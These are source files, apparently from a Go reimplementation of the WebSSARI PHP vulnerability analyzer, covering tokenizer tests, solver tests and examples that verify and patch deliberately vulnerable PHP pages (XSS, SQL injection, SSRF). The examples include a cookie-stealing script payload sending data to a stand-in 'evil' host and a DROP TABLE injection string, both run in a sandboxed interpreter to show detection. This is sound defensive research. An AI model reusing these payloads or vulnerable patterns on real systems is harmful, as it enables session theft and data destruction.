		{&VarVar{Inner: &Binary{Op: token.Dot, L: &StringLit{Value: "a"}, R: &Var{Name: "k"}}},
			"${'a' . $k}"},
		{&Index{Arr: &Var{Name: "a"}}, "$a[]"},
		{&ExitExpr{Arg: &StringLit{Value: "bye"}}, "exit('bye')"},
		{&New{Class: "C", Args: []Expr{&IntLit{Raw: "1"}}}, "new C(1)"},
		{&StaticCall{Class: "DB", Name: "q"}, "DB::q()"},
		{&ListExpr{Targets: []Expr{&Var{Name: "a"}, nil, &Var{Name: "c"}}}, "list($a, , $c)"},
		{&IncludeExpr{Kind: token.KwRequireOnce, Path: &StringLit{Value: "f.php"}},
			"require_once 'f.php'"},
	}
	for i, c := range cases {
		if got := PrintExpr(c.expr); got != c.want {
			t.Errorf("case %d: PrintExpr = %q, want %q", i, got, c.want)
		}
	}
}

func TestPrintFileModeSwitching(t *testing.T) {
	f := &File{Name: "t.php", Stmts: []Stmt{
		&InlineHTMLStmt{Text: "<h1>x</h1>"},
		&EchoStmt{Args: []Expr{&IntLit{Raw: "1"}}},
		&InlineHTMLStmt{Text: "<hr>"},
	}}
	out := PrintFile(f)
	want := "<h1>x</h1><?php\necho 1;\n?><hr>"
	if out != want {
		t.Fatalf("PrintFile = %q, want %q", out, want)
	}
}

func TestPrecedenceParenthesization(t *testing.T) {
	// (1 + 2) * 3 must keep its parentheses when printed.
	e := &Binary{Op: token.Star,
		L: &Binary{Op: token.Plus, L: &IntLit{Raw: "1"}, R: &IntLit{Raw: "2"}},
		R: &IntLit{Raw: "3"}}
	if got := PrintExpr(e); got != "(1 + 2) * 3" {
		t.Fatalf("PrintExpr = %q", got)
	}
	// 1 + 2 * 3 must not gain parentheses.
	e2 := &Binary{Op: token.Plus,
		L: &IntLit{Raw: "1"},
		R: &Binary{Op: token.Star, L: &IntLit{Raw: "2"}, R: &IntLit{Raw: "3"}}}
	if got := PrintExpr(e2); got != "1 + 2 * 3" {
		t.Fatalf("PrintExpr = %q", got)
	}
}
