package token

import (
	"testing"
)

func TestKindString(t *testing.T) {
	cases := map[Kind]string{
		EOF:          "EOF",
		Variable:     "VARIABLE",
		Assign:       "=",
		ConcatAssign: ".=",
		KwForeach:    "foreach",
		KwEndif:      "endif",
		DoubleArrow:  "=>",
		OpenEcho:     "<?=",
	}
	for k, want := range cases {
		if got := k.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", k, got, want)
		}
	}
	if got := Kind(9999).String(); got != "Kind(9999)" {
		t.Errorf("unknown kind = %q", got)
	}
	if got := Invalid.String(); got != "INVALID" {
		t.Errorf("Invalid = %q", got)
	}
}

func TestEveryKindHasAName(t *testing.T) {
	for k := Invalid; k < kindCount; k++ {
		name := k.String()
		if len(name) == 0 {
			t.Errorf("kind %d has empty name", k)
		}
		if len(name) > 5 && name[:5] == "Kind(" {
			t.Errorf("kind %d missing from kindNames", k)
		}
	}
}

func TestLookupKeywordCases(t *testing.T) {
	cases := map[string]Kind{
		"if":           KwIf,
		"IF":           KwIf,
		"Include_Once": KwIncludeOnce,
		"ENDFOREACH":   KwEndforeach,
		"myFunction":   Ident,
		"echo2":        Ident,
		"":             Ident,
	}
	for in, want := range cases {
		if got := LookupKeyword(in); got != want {
			t.Errorf("LookupKeyword(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestPosString(t *testing.T) {
	p := Pos{File: "a.php", Line: 3, Col: 9, Offset: 42}
	if p.String() != "a.php:3:9" {
		t.Errorf("Pos.String = %q", p.String())
	}
	anon := Pos{Line: 3, Col: 9}
	if anon.String() != "3:9" {
		t.Errorf("anonymous Pos.String = %q", anon.String())
	}
	if !p.IsValid() {
		t.Errorf("set Pos should be valid")
	}
	if (Pos{}).IsValid() {
		t.Errorf("zero Pos should be invalid")
	}
}

func TestTokenString(t *testing.T) {
	cases := []struct {
		tok  Token
		want string
	}{
		{Token{Kind: Variable, Text: "sid"}, "$sid"},
		{Token{Kind: Ident, Text: "mysql_query"}, "mysql_query"},
		{Token{Kind: IntLit, Text: "42"}, "42"},
		{Token{Kind: StringLit, Text: "a b"}, `"a b"`},
		{Token{Kind: Semicolon, Text: ";"}, ";"},
		{Token{Kind: KwWhile, Text: "while"}, "while"},
	}
	for i, c := range cases {
		if got := c.tok.String(); got != c.want {
			t.Errorf("case %d: Token.String = %q, want %q", i, got, c.want)
		}
	}
}
