// Package token defines the lexical tokens of the PHP subset understood by
// the WebSSARI reproduction, together with source positions. The subset
// targets the PHP 4 idioms found in the paper's corpus: procedural code,
// superglobals, string interpolation, includes, and simple classes.
package token

import "fmt"

// Kind identifies the lexical class of a token.
type Kind int

// Token kinds. Following the style guide, the enum starts at 1 so the zero
// Kind is invalid and easy to spot in bugs.
const (
	Invalid Kind = iota // zero value: never produced by the lexer

	EOF        // end of input
	InlineHTML // text outside <?php ... ?>
	OpenTag    // <?php or <?
	OpenEcho   // <?=
	CloseTag   // ?>

	Variable     // $name
	Ident        // bare identifier: function names, constants
	IntLit       // 42
	FloatLit     // 4.2
	StringLit    // 'single quoted' (no interpolation), value decoded
	InterpString // "double quoted", raw body kept for interpolation split
	HeredocString
	BacktickString // `shell command`, raw body kept; executes via the shell

	// Operators and punctuation.
	Assign       // =
	ConcatAssign // .=
	PlusAssign   // +=
	MinusAssign  // -=
	StarAssign   // *=
	SlashAssign  // /=
	PercentAssign

	Eq          // ==
	NotEq       // !=
	Identical   // ===
	NotIdent    // !==
	Lt          // <
	Gt          // >
	LtEq        // <=
	GtEq        // >=
	Plus        // +
	Minus       // -
	Star        // *
	Slash       // /
	Percent     // %
	Dot         // .
	Not         // !
	AndAnd      // &&
	OrOr        // ||
	Amp         // &
	Pipe        // |
	Caret       // ^
	Tilde       // ~
	Shl         // <<
	Shr         // >>
	Inc         // ++
	Dec         // --
	Question    // ?
	Colon       // :
	DoubleColon // ::
	Comma       // ,
	Semicolon   // ;
	LParen      // (
	RParen      // )
	LBrace      // {
	RBrace      // }
	LBracket    // [
	RBracket    // ]
	Arrow       // ->
	DoubleArrow // =>
	At          // @
	Dollar      // $ (variable variables: $$x)

	// Keywords.
	KwIf
	KwElseif
	KwElse
	KwEndif
	KwWhile
	KwEndwhile
	KwDo
	KwFor
	KwEndfor
	KwForeach
	KwEndforeach
	KwAs
	KwSwitch
	KwEndswitch
	KwCase
	KwDefault
	KwBreak
	KwContinue
	KwFunction
	KwReturn
	KwEcho
	KwPrint
	KwInclude
	KwIncludeOnce
	KwRequire
	KwRequireOnce
	KwGlobal
	KwStatic
	KwVar
	KwClass
	KwNew
	KwExit
	KwDie
	KwIsset
	KwEmpty
	KwUnset
	KwList
	KwArray
	KwTrue
	KwFalse
	KwNull
	KwAnd // 'and'
	KwOr  // 'or'
	KwXor // 'xor'

	kindCount
)

var kindNames = map[Kind]string{
	Invalid: "INVALID", EOF: "EOF", InlineHTML: "INLINE_HTML",
	OpenTag: "<?php", OpenEcho: "<?=", CloseTag: "?>",
	Variable: "VARIABLE", Ident: "IDENT", IntLit: "INT", FloatLit: "FLOAT",
	StringLit: "STRING", InterpString: "INTERP_STRING", HeredocString: "HEREDOC",
	BacktickString: "BACKTICK",
	Assign:         "=", ConcatAssign: ".=", PlusAssign: "+=", MinusAssign: "-=",
	StarAssign: "*=", SlashAssign: "/=", PercentAssign: "%=",
	Eq: "==", NotEq: "!=", Identical: "===", NotIdent: "!==",
	Lt: "<", Gt: ">", LtEq: "<=", GtEq: ">=",
	Plus: "+", Minus: "-", Star: "*", Slash: "/", Percent: "%", Dot: ".",
	Not: "!", AndAnd: "&&", OrOr: "||", Amp: "&", Pipe: "|", Caret: "^",
	Tilde: "~", Shl: "<<", Shr: ">>", Inc: "++", Dec: "--",
	Question: "?", Colon: ":", DoubleColon: "::", Comma: ",", Semicolon: ";",
	LParen: "(", RParen: ")", LBrace: "{", RBrace: "}",
	LBracket: "[", RBracket: "]", Arrow: "->", DoubleArrow: "=>",
	At: "@", Dollar: "$",
	KwIf: "if", KwElseif: "elseif", KwElse: "else", KwEndif: "endif",
	KwWhile: "while", KwEndwhile: "endwhile", KwDo: "do",
	KwFor: "for", KwEndfor: "endfor",
	KwForeach: "foreach", KwEndforeach: "endforeach", KwAs: "as",
	KwSwitch: "switch", KwEndswitch: "endswitch", KwCase: "case", KwDefault: "default",
	KwBreak: "break", KwContinue: "continue",
	KwFunction: "function", KwReturn: "return", KwEcho: "echo", KwPrint: "print",
	KwInclude: "include", KwIncludeOnce: "include_once",
	KwRequire: "require", KwRequireOnce: "require_once",
	KwGlobal: "global", KwStatic: "static", KwVar: "var", KwClass: "class",
	KwNew: "new", KwExit: "exit", KwDie: "die",
	KwIsset: "isset", KwEmpty: "empty", KwUnset: "unset", KwList: "list",
	KwArray: "array", KwTrue: "true", KwFalse: "false", KwNull: "null",
	KwAnd: "and", KwOr: "or", KwXor: "xor",
}

// String returns a human-readable name for the kind.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

// keywords maps lower-cased identifier spellings to keyword kinds. PHP
// keywords are case-insensitive.
var keywords = map[string]Kind{
	"if": KwIf, "elseif": KwElseif, "else": KwElse, "endif": KwEndif,
	"while": KwWhile, "endwhile": KwEndwhile, "do": KwDo,
	"for": KwFor, "endfor": KwEndfor,
	"foreach": KwForeach, "endforeach": KwEndforeach, "as": KwAs,
	"switch": KwSwitch, "endswitch": KwEndswitch, "case": KwCase, "default": KwDefault,
	"break": KwBreak, "continue": KwContinue,
	"function": KwFunction, "return": KwReturn, "echo": KwEcho, "print": KwPrint,
	"include": KwInclude, "include_once": KwIncludeOnce,
	"require": KwRequire, "require_once": KwRequireOnce,
	"global": KwGlobal, "static": KwStatic, "var": KwVar, "class": KwClass,
	"new": KwNew, "exit": KwExit, "die": KwDie,
	"isset": KwIsset, "empty": KwEmpty, "unset": KwUnset, "list": KwList,
	"array": KwArray, "true": KwTrue, "false": KwFalse, "null": KwNull,
	"and": KwAnd, "or": KwOr, "xor": KwXor,
}

// LookupKeyword classifies an identifier spelling: it returns the keyword
// kind for reserved words (case-insensitively) and Ident otherwise.
func LookupKeyword(ident string) Kind {
	if k, ok := keywords[lower(ident)]; ok {
		return k
	}
	return Ident
}

// lower is an ASCII-only strings.ToLower, sufficient for PHP keywords and
// cheaper than the Unicode-aware version.
func lower(s string) string {
	hasUpper := false
	for i := 0; i < len(s); i++ {
		if s[i] >= 'A' && s[i] <= 'Z' {
			hasUpper = true
			break
		}
	}
	if !hasUpper {
		return s
	}
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + ('a' - 'A')
		}
	}
	return string(b)
}

// Pos is a source position: file, 1-based line, 1-based column, and 0-based
// byte offset within the file.
type Pos struct {
	File   string
	Line   int
	Col    int
	Offset int
}

// String renders the position as file:line:col.
func (p Pos) String() string {
	if p.File == "" {
		return fmt.Sprintf("%d:%d", p.Line, p.Col)
	}
	return fmt.Sprintf("%s:%d:%d", p.File, p.Line, p.Col)
}

// IsValid reports whether the position has been set (line numbers are
// 1-based, so the zero Pos is invalid).
func (p Pos) IsValid() bool { return p.Line > 0 }

// Token is a single lexical token.
type Token struct {
	Kind Kind
	// Text is the decoded payload: the variable name without '$' for
	// Variable, the decoded value for StringLit, the raw (still escaped,
	// interpolation-bearing) body for InterpString/HeredocString, and the
	// literal spelling otherwise.
	Text string
	Pos  Pos
	// End is the byte offset one past the token in the source, used by the
	// instrumentor to splice patches without disturbing formatting.
	End int
}

// String renders the token for diagnostics.
func (t Token) String() string {
	switch t.Kind {
	case Variable:
		return "$" + t.Text
	case Ident, IntLit, FloatLit:
		return t.Text
	case StringLit:
		return fmt.Sprintf("%q", t.Text)
	default:
		return t.Kind.String()
	}
}
