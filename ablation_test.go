package webssari_test

// CI smoke guard for the §3.3.1 location-variable ablation: on a bounded
// input, the xBMC0.1 encoding must stay at least WEBSSARI_ABLATION_FACTOR
// times larger than the xBMC1.0 renaming encoding (in both CNF variables
// and clauses) while both decide the assertion identically. The full
// growth curve lives in BenchmarkEncodingAblation / EXPERIMENTS.md; this
// test keeps the "broke down" reproduction from silently regressing into
// parity (which would mean the naive encoder stopped modelling the
// per-assignment 2|X| location variables the paper blames).

import (
	"os"
	"strconv"
	"testing"

	"webssari/internal/core"
	"webssari/internal/flow"
	"webssari/internal/prelude"
	"webssari/internal/sat"
)

func ablationFactor() int {
	if v := os.Getenv("WEBSSARI_ABLATION_FACTOR"); v != "" {
		if f, err := strconv.Atoi(v); err == nil && f > 0 {
			return f
		}
	}
	return 8
}

func TestLocationVariableAblationFactor(t *testing.T) {
	const chainVars = 8 // bounded: milliseconds even for the naive encoding
	factor := ablationFactor()
	src := taintChainSrc(chainVars)
	prog, errs := flow.BuildSource("chain.php", []byte(src), flow.Options{Prelude: prelude.Default()})
	if len(errs) != 0 {
		t.Fatalf("build: %v", errs)
	}
	asserts := prog.Asserts()
	target := asserts[len(asserts)-1]

	violated, enc, err := core.VerifyAssertNaive(prog, target, sat.Options{})
	if err != nil {
		t.Fatal(err)
	}
	naiveVars, naiveClauses := enc.F.NumVars, len(enc.F.Clauses)

	res, err := core.VerifyAI(prog, core.Options{})
	if err != nil {
		t.Fatal(err)
	}
	last := res.PerAssert[len(res.PerAssert)-1]
	if got := len(last.Counterexamples) > 0; got != violated {
		t.Fatalf("encodings disagree: naive violated=%v, renamed violated=%v", violated, got)
	}
	if !violated {
		t.Fatal("the taint chain must be violated")
	}

	renamedVars, renamedClauses := last.EncodedVars, last.EncodedClauses
	t.Logf("|X|=%d: xBMC0.1 %d vars / %d clauses, xBMC1.0 %d vars / %d clauses (factor floor %d)",
		chainVars, naiveVars, naiveClauses, renamedVars, renamedClauses, factor)
	if naiveVars < factor*renamedVars {
		t.Errorf("naive encoding vars %d < %d× renamed %d — the ablation collapsed",
			naiveVars, factor, renamedVars)
	}
	if naiveClauses < factor*renamedClauses {
		t.Errorf("naive encoding clauses %d < %d× renamed %d — the ablation collapsed",
			naiveClauses, factor, renamedClauses)
	}
}
