package webssari_test

// Differential tests for the solver dispatch modes: shared, portfolio,
// and warm-started runs must produce reports byte-identical (profiles
// stripped) to the default per-assertion cold solve — solver modes are
// verdict-neutral by contract, and this suite is the contract's teeth.

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"webssari"
)

// stripped returns the canonical comparison form of a report: the JSON
// encoding with the profile (the one intentionally nondeterministic
// section) removed, plus the rendered text, which is deterministic and
// compared separately.
func stripped(t *testing.T, rep *webssari.Report) (string, string) {
	t.Helper()
	clone := *rep
	clone.Profile = nil
	data, err := json.Marshal(&clone)
	if err != nil {
		t.Fatalf("marshal report: %v", err)
	}
	return string(data), rep.Text
}

// examplePHPFiles lists the bundled corpus.
func examplePHPFiles(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir(filepath.Join("examples", "php"))
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".php") {
			files = append(files, e.Name())
		}
	}
	if len(files) == 0 {
		t.Fatal("no example PHP files found")
	}
	return files
}

// TestSolverModesByteIdentical sweeps the example corpus under every
// built-in policy and asserts that shared mode, portfolio mode (at
// sequential and oversubscribed parallelism), and warm-started shared
// mode all reproduce the per-assertion cold report byte for byte.
func TestSolverModesByteIdentical(t *testing.T) {
	policies := []string{"default", "xss-context", "ssrf"}
	for _, file := range examplePHPFiles(t) {
		src := readExample(t, file)
		name := "examples/php/" + file
		for _, pol := range policies {
			t.Run(pol+"/"+file, func(t *testing.T) {
				base := []webssari.Option{webssari.WithPolicy(pol)}
				ref, err := webssari.Verify(src, name, base...)
				if err != nil {
					t.Fatalf("per-assert Verify: %v", err)
				}
				refJSON, refText := stripped(t, ref)

				variants := []struct {
					label string
					opts  []webssari.Option
				}{
					{"shared", append([]webssari.Option{
						webssari.WithSolverConfig(webssari.SolverConfig{Mode: webssari.SolverShared}),
					}, base...)},
					{"portfolio", append([]webssari.Option{
						webssari.WithSolverConfig(webssari.SolverConfig{Mode: webssari.SolverPortfolio}),
					}, base...)},
					{"portfolio-parallel", append([]webssari.Option{
						webssari.WithSolverConfig(webssari.SolverConfig{Mode: webssari.SolverPortfolio, Portfolio: 4}),
						webssari.WithParallelism(4),
					}, base...)},
				}
				for _, v := range variants {
					rep, err := webssari.Verify(src, name, v.opts...)
					if err != nil {
						t.Fatalf("%s Verify: %v", v.label, err)
					}
					gotJSON, gotText := stripped(t, rep)
					if gotJSON != refJSON {
						t.Errorf("%s report diverges from per-assert:\n got %s\nwant %s", v.label, gotJSON, refJSON)
					}
					if gotText != refText {
						t.Errorf("%s text diverges from per-assert:\n got %q\nwant %q", v.label, gotText, refText)
					}
				}

				// Warm-started shared mode: two runs over a fresh store. A
				// tight budget keeps the result store from short-circuiting
				// the second solve when the first run came back incomplete;
				// complete first runs legitimately serve run 2 from disk —
				// either way both reports must match a cold per-assert run
				// under the same budget.
				st, err := webssari.OpenStore(t.TempDir(), 0)
				if err != nil {
					t.Fatal(err)
				}
				warm := append([]webssari.Option{
					webssari.WithStore(st),
					webssari.WithSolverConfig(webssari.SolverConfig{Mode: webssari.SolverShared, WarmStart: true}),
				}, base...)
				for run := 1; run <= 2; run++ {
					rep, err := webssari.Verify(src, name, warm...)
					if err != nil {
						t.Fatalf("warm run %d: %v", run, err)
					}
					gotJSON, gotText := stripped(t, rep)
					if gotJSON != refJSON {
						t.Errorf("warm run %d diverges from per-assert:\n got %s\nwant %s", run, gotJSON, refJSON)
					}
					if gotText != refText {
						t.Errorf("warm run %d text diverges:\n got %q\nwant %q", run, gotText, refText)
					}
				}
			})
		}
	}
}

// TestWarmStartSecondRunHits pins the warm-start lifecycle over a
// budget-limited verification (incomplete verdicts are never persisted,
// so the second run re-solves instead of being served from tier 2):
// run 1 is cold and exports a blob, run 2 finds it, binds it to the
// same CNF, and reports a hit in the profile.
func TestWarmStartSecondRunHits(t *testing.T) {
	src := readExample(t, "guestbook.php")
	st, err := webssari.OpenStore(t.TempDir(), 0)
	if err != nil {
		t.Fatal(err)
	}
	opts := []webssari.Option{
		webssari.WithStore(st),
		webssari.WithBudget(1),
		webssari.WithSolverConfig(webssari.SolverConfig{Mode: webssari.SolverShared, WarmStart: true}),
	}
	rep1, err := webssari.Verify(src, "examples/php/guestbook.php", opts...)
	if err != nil {
		t.Fatal(err)
	}
	if !rep1.Incomplete {
		t.Fatalf("want an incomplete first run under budget 1, got verdict %s", rep1.Verdict)
	}
	ws1 := rep1.Profile.WarmStart
	if ws1 == nil {
		t.Fatal("run 1 profile has no warm-start section")
	}
	if ws1.Attempted || ws1.Hit {
		t.Fatalf("run 1 should be cold, got %+v", ws1)
	}

	rep2, err := webssari.Verify(src, "examples/php/guestbook.php", opts...)
	if err != nil {
		t.Fatal(err)
	}
	if rep2.StoreHit {
		t.Fatal("incomplete verdicts must not be served from the result store")
	}
	ws2 := rep2.Profile.WarmStart
	if ws2 == nil {
		t.Fatal("run 2 profile has no warm-start section")
	}
	if !ws2.Attempted || !ws2.Hit {
		t.Fatalf("run 2 should hit the persisted blob, got %+v", ws2)
	}
	if rep1.Verdict != rep2.Verdict || rep1.Symptoms != rep2.Symptoms {
		t.Fatalf("warm start changed the verdict: run1 %s/%d, run2 %s/%d",
			rep1.Verdict, rep1.Symptoms, rep2.Verdict, rep2.Symptoms)
	}
}

// TestSolverConfigOptionValidation pins the API-surface errors of the
// unified solver configuration.
func TestSolverConfigOptionValidation(t *testing.T) {
	src := []byte("<?php echo 'hi';\n")
	if _, err := webssari.Verify(src, "t.php",
		webssari.WithSolverConfig(webssari.SolverConfig{Mode: "simulated-annealing"})); err == nil {
		t.Fatal("unknown solver mode accepted")
	} else if !strings.Contains(err.Error(), "per-assert") {
		t.Fatalf("error should list the valid modes, got: %v", err)
	}
	if _, err := webssari.Verify(src, "t.php",
		webssari.WithSolverConfig(webssari.SolverConfig{Portfolio: -2})); err == nil {
		t.Fatal("negative portfolio width accepted")
	}
	// The zero SolverConfig is a no-op, not an error.
	if _, err := webssari.Verify(src, "t.php",
		webssari.WithSolverConfig(webssari.SolverConfig{})); err != nil {
		t.Fatalf("zero SolverConfig should be accepted: %v", err)
	}
}
