// PHP Support Tickets (the paper's Figures 1–2): a stored cross-site
// scripting vulnerability. User-supplied ticket text is inserted into the
// database unsanitized (Figure 1) and later echoed to other users
// (Figure 2). This example verifies both scripts, patches them, and then
// *executes* original and patched display scripts in the taint-tracking
// PHP interpreter to show the attack blocked at runtime.
//
//	go run ./examples/supporttickets
package main

import (
	"fmt"
	"log"

	"webssari"
	"webssari/internal/runtime"
)

// Figure 1: ticket submission.
const submitPHP = `<?php
$query = "INSERT INTO tickets_tickets (tickets_id, tickets_username, tickets_subject, tickets_question) VALUES ('" . $_SESSION['username'] . "', '" . $_POST['ticketsubject'] . "', '" . $_POST['message'] . "')";
$result = @mysql_query($query);
?>`

// Figure 2: displaying the tickets.
const displayPHP = `<?php
$query = "SELECT tickets_id, tickets_username, tickets_subject FROM tickets_tickets";
$result = @mysql_query($query);
while ($row = @mysql_fetch_array($result)) {
    extract($row);
    echo "$tickets_username<BR>$tickets_subject<BR><BR>";
}
?>`

func main() {
	// --- static verification -------------------------------------------
	for _, f := range []struct{ name, src string }{
		{"submit.php", submitPHP},
		{"display.php", displayPHP},
	} {
		rep, err := webssari.Verify([]byte(f.src), f.name)
		if err != nil {
			log.Fatalf("verify %s: %v", f.name, err)
		}
		fmt.Printf("=== %s: safe=%v, %d symptom(s), %d group(s)\n", f.name, rep.Safe, rep.Symptoms, rep.Groups)
		for _, finding := range rep.Findings {
			fmt.Printf("    %s via %s at %s\n", finding.Class, finding.Sink, finding.Location)
		}
	}

	// --- dynamic demonstration -----------------------------------------
	attack := "<script>document.location='http://evil/?c='+document.cookie</script>"
	seed := func(in *runtime.Interp) {
		// The stored ticket row contains an earlier attacker submission.
		in.SeedRow(map[string]*runtime.Value{
			"tickets_username": runtime.Clean("mallory"),
			"tickets_subject":  runtime.Tainted(attack),
		})
	}

	orig := runtime.New()
	seed(orig)
	if err := orig.RunSource("display.php", []byte(displayPHP)); err != nil {
		log.Fatalf("run original: %v", err)
	}
	fmt.Printf("\noriginal display.php: %d tainted sink event(s)\n", len(orig.TaintedEvents()))
	fmt.Printf("  page output: %s\n", orig.Output())

	patched, rep, err := webssari.Patch([]byte(displayPHP), "display.php")
	if err != nil {
		log.Fatalf("patch: %v", err)
	}
	fmt.Printf("\npatched with %d runtime guard(s):\n%s\n", rep.Groups, patched)

	fixed := runtime.New()
	seed(fixed)
	if err := fixed.RunSource("display.php", patched); err != nil {
		log.Fatalf("run patched: %v", err)
	}
	fmt.Printf("patched display.php: %d tainted sink event(s)\n", len(fixed.TaintedEvents()))
	fmt.Printf("  page output: %s\n", fixed.Output())
}
