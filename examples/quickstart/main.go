// Quickstart: verify a vulnerable PHP page, print the grouped error
// report with counterexample traces, and emit a secured copy.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"webssari"
)

const page = `<?php
$name = $_GET['name'];
if (!$name) {
    $name = $_COOKIE['name'];
}
$greeting = "Hello, " . $name . "!";
echo $greeting;
mysql_query("INSERT INTO visits (who) VALUES ('$name')");
echo "<p>Welcome back, $name</p>";
?>`

func main() {
	// 1. Verify: bounded model checking over the page's information flow.
	rep, err := webssari.Verify([]byte(page), "welcome.php")
	if err != nil {
		log.Fatalf("verify: %v", err)
	}
	fmt.Println(rep.Text)
	fmt.Printf("TS would insert %d guards (one per symptom); BMC needs %d (one per cause).\n\n",
		rep.Symptoms, rep.Groups)

	// 2. Patch: wrap the minimal fixing set in runtime guards.
	patched, _, err := webssari.Patch([]byte(page), "welcome.php")
	if err != nil {
		log.Fatalf("patch: %v", err)
	}
	fmt.Println("--- secured PHP ---")
	fmt.Println(string(patched))

	// 3. Re-verify: the secured page is provably safe.
	rep2, err := webssari.Verify(patched, "welcome.php")
	if err != nil {
		log.Fatalf("re-verify: %v", err)
	}
	fmt.Printf("re-verification: safe=%v\n", rep2.Safe)
}
