<?php
// Profile widget for the xss-context policy: the display name is escaped
// for the HTML body, then reused unchanged inside a single-quoted
// attribute and a script element. htmlspecialchars without ENT_QUOTES is
// adequate only in the first context — the other two echoes are
// context-XSS findings a context-blind analysis misses.
$name = htmlspecialchars($_GET['name']);
echo "<p>Hello $name</p>";
echo "<input type='text' value='$name'>";
echo "<script>var who = '$name';</script>";
?>
