<?php
// The secured sibling of widget.php: every echo uses the sanitizer
// adequate for its output context — ENT_QUOTES escaping covers the body
// and the attribute, and only a numeric cast may reach the script
// element. Verified safe under the xss-context policy.
$name = htmlspecialchars($_GET['name'], ENT_QUOTES);
echo "<p>Hello $name</p>";
echo "<input type='text' value='$name'>";
$uid = intval($_GET['uid']);
echo "<script>var uid = $uid;</script>";
?>
