<?php
// Shared page header, pulled in by the other examples via include —
// exercises the include loader and the compile cache's revalidation.
$site = "Example Town";
echo "<html><body><h1>$site</h1>";
?>
