<?php
// Search results page: the query is echoed back once raw (XSS) and once
// properly sanitized — only the raw echo should be reported.
include 'header.php';
$q = $_GET['q'];
$i = 0;
while ($i < 3) {
    echo "<li>result for $q</li>";
    $i = $i + 1;
}
$safe = htmlspecialchars($q);
echo "<p>You searched for $safe</p>";
?>
