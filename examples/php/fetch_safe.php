<?php
// The secured sibling of fetch.php: the URL's host is validated against
// an allowlist before the request — websafe_url is the ssrf policy's
// declared sanitizer and its patch guard. Verified safe.
$url = websafe_url($_GET['feed']);
$body = file_get_contents($url);
?>
