<?php
// A standalone page with no includes: its verdict does not depend on
// header.php, so incremental re-verification must keep serving it from
// the store when the shared header is edited.
echo "<html><body><p>About this site.</p></body></html>";
?>
