<?php
// Profile page: every untrusted input is sanitized before use, so
// bounded model checking proves this file safe.
include 'header.php';
$user = htmlspecialchars($_GET['user']);
$bio = htmlspecialchars($_POST['bio']);
echo "<h1>$user</h1>";
echo "<p>$bio</p>";
mysql_query("SELECT * FROM profiles WHERE user = '" . addslashes($user) . "'");
?>
