<?php
// Feed fetcher for the ssrf policy: the request URL comes straight from
// the query string, so an attacker can steer the server at internal
// addresses (server-side request forgery).
$url = $_GET['feed'];
$body = file_get_contents($url);
?>
