<?php
// Guestbook entry page: the classic two-cause page — one tainted name
// flows into both an SQL INSERT and an echoed greeting.
include 'header.php';
$name = $_GET['name'];
if (!$name) {
    $name = $_COOKIE['name'];
}
$message = $_POST['message'];
mysql_query("INSERT INTO guestbook (who, said) VALUES ('$name', '$message')");
echo "<p>Thanks for signing, $name!</p>";
?>
