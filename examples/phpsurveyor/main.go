// PHP Surveyor (the paper's Figure 7): sixteen vulnerable program
// locations all caused by one tainted variable, $sid. The TS baseline
// would insert sixteen sanitization guards — the BMC counterexample
// analysis identifies the single root cause and patches it once per
// introduction.
//
//	go run ./examples/phpsurveyor
package main

import (
	"fmt"
	"log"
	"strings"

	"webssari"
)

func surveyorSource() string {
	var b strings.Builder
	b.WriteString(`<?php
$sid = $_GET['sid'];
if (!$sid) { $sid = $_POST['sid']; }
`)
	// The paper's Figure 7 shows three of the sixteen sink sites; the
	// original file had sixteen queries rooted in the same $sid.
	tables := []string{
		"groups", "ans", "questions", "surveys", "users", "answers",
		"labels", "conditions", "assessments", "quota", "tokens",
		"attributes", "sessions", "stats", "backup", "defaults",
	}
	for i, tbl := range tables {
		fmt.Fprintf(&b, "$q%d = \"SELECT * FROM %s WHERE sid=$sid\";\nDoSQL($q%d);\n", i, tbl, i)
	}
	b.WriteString("?>")
	return b.String()
}

func main() {
	src := surveyorSource()
	opts := []webssari.Option{webssari.WithSink("DoSQL", 1)}

	rep, err := webssari.Verify([]byte(src), "surveyor.php", opts...)
	if err != nil {
		log.Fatalf("verify: %v", err)
	}

	fmt.Printf("vulnerable statements (TS symptoms): %d\n", rep.Symptoms)
	fmt.Printf("error introductions (BMC groups):    %d\n", rep.Groups)
	fmt.Println()
	for _, p := range rep.Patches {
		fmt.Printf("patch: %-45s repairs %2d traces\n", p.Description, p.Findings)
	}

	patched, _, err := webssari.Patch([]byte(src), "surveyor.php", opts...)
	if err != nil {
		log.Fatalf("patch: %v", err)
	}
	guards := strings.Count(string(patched), "websafe(")
	fmt.Printf("\nruntime guards inserted: %d (the paper's TS-based WebSSARI inserted 16)\n", guards)

	rep2, err := webssari.Verify(patched, "surveyor.php", opts...)
	if err != nil {
		log.Fatalf("re-verify: %v", err)
	}
	fmt.Printf("patched file verifies safe: %v\n", rep2.Safe)
	fmt.Println("\n--- first lines of the secured file ---")
	for _, line := range strings.SplitN(string(patched), "\n", 6)[:5] {
		fmt.Println(line)
	}
}
