// ILIAS Open Source (the paper's Figure 3): SQL injection through the
// HTTP referer header — developers who distrust $_GET routinely forget
// that the referrer, cookies, and other request metadata are equally
// attacker-controlled.
//
//	go run ./examples/iliasreferer
package main

import (
	"fmt"
	"log"

	"webssari"
	"webssari/internal/runtime"
)

const trackPHP = `<?php
$sql = "INSERT INTO track_temp VALUES('$HTTP_REFERER');";
mysql_query($sql);
?>`

func main() {
	rep, err := webssari.Verify([]byte(trackPHP), "track.php")
	if err != nil {
		log.Fatalf("verify: %v", err)
	}
	fmt.Println(rep.Text)

	// Demonstrate the paper's exploit: a crafted referrer drops a table.
	payload := `');DROP TABLE ('users`
	in := runtime.New()
	in.Globals["HTTP_REFERER"] = runtime.Tainted(payload)
	if err := in.RunSource("track.php", []byte(trackPHP)); err != nil {
		log.Fatalf("run: %v", err)
	}
	fmt.Println("executed SQL with attacker referrer:")
	for _, q := range in.DB.Queries {
		fmt.Printf("  %s\n", q)
	}

	patched, _, err := webssari.Patch([]byte(trackPHP), "track.php")
	if err != nil {
		log.Fatalf("patch: %v", err)
	}
	fixed := runtime.New()
